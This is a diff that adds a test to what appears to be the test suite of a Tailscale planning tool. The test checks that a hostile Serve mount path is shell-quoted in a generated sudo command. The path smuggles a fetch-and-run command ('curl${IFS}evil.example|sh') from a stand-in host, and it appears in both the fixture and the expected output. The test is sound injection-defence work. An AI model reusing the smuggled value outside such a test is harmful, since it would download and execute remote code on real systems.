@@ -222,3 +222,18 @@ describe('tailscale plan: options', () => {
     expect(json.policy).toMatchObject({ format: 'acls', principals: ['alice@example.com'], placeholder: false });
   });
 });
+
+describe('tailscale plan: host words in its commands', () => {
+  it('a Serve mount path from the tailscale daemon is one shell word in the sudo line', () => {
+    const serve = {
+      TCP: { '443': { HTTPS: true } },
+      Web: { 'gw.tail1234.ts.net:443': { Handlers: { '/x;curl${IFS}evil.example|sh;#': { Proxy: 'http://127.0.0.1:18789' } } } },
+    };
+    const ctx = host(TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], {}), (s) =>
+      s.tailscale.status === 'ok' ? { ...s, tailscale: { ...s.tailscale, data: { ...s.tailscale.data, serve: { status: 'ok', data: serve } } } } : s,
+    );
+    const text = renderTailscalePlan(plan(ctx), { color: false });
+    expect(text).toContain("$ sudo tailscale serve --https=443 --set-path='/x;curl${IFS}evil.example|sh;#' off");
+    expect(text).not.toContain('--set-path=/x;curl');
+  });
+});
